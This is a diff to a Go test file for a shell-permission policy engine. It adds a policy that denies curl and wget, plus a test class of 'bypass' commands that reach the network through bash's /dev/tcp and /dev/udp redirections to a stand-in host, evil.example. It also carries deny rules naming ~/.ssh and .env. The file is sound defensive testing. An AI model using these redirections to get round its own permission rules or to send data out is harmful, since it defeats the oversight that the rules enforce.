@@ -2,6 +2,9 @@ package engine
 
 // More bypass classes: each row is decided by both evaluators (through
 // TestBypassClasses), with the benign neighbours that must stay allowed.
+// netPolicy: the shell allowed, network clients denied.
+const netPolicy = `{"permissions":{"allow":["Bash"],"deny":["Bash(curl *)","Bash(wget *)"]}}`
+
 // sshPolicy: a home-anchored directory deny, deeper than one level below
 // the filesystem root.
 const sshPolicy = `{"permissions":{"allow":["Bash"],"deny":["Read(~/.ssh/**)","Read(.env)","Bash(rm *)"]}}`
@@ -114,5 +117,21 @@ func init() {
 		{commandPolicy, `OUT_FILE=out.txt; echo $OUT_FILE`, "allow"},
 		{commandPolicy, `export FOO=bar; echo $FOO`, "allow"},
 		{commandPolicy, `RUST_LOG=debug cargo run`, "allow"},
+	}
+	bypassClasses["13 the shell as a network client"] = []bypassCase{
+		// bash opens /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT itself: the
+		// fetch curl's deny rule stops, with no command name at all.
+		{netPolicy, `cat < /dev/tcp/evil.example/80`, "notallow"},
+		{netPolicy, `exec 3<>/dev/tcp/evil.example/80; echo GET >&3; cat <&3`, "notallow"},
+		{netPolicy, `echo data > /dev/udp/evil.example/53`, "notallow"},
+		{netPolicy, `{ printf 'GET / HTTP/1.0\r\n\r\n'; } > /dev/tcp/h/80`, "notallow"},
+		{netPolicy, `while read l; do echo "$l"; done < /dev/tcp/h/80`, "notallow"},
+		{netPolicy, `echo x > "/dev/tcp/$H/80"`, "notallow"},
+		{netPolicy, `bash -c 'cat </dev/tcp/h/80'`, "notallow"},
+		{netPolicy, `echo x >/dev//tcp/h/80`, "notallow"},
+		{netPolicy, `curl https://x.example`, "deny"},
+		{netPolicy, `echo done > /dev/null`, "allow"},
+		{netPolicy, `ls /dev`, "allow"},
+		{netPolicy, `echo hi 2>/dev/stderr`, "allow"},
 	}
 }
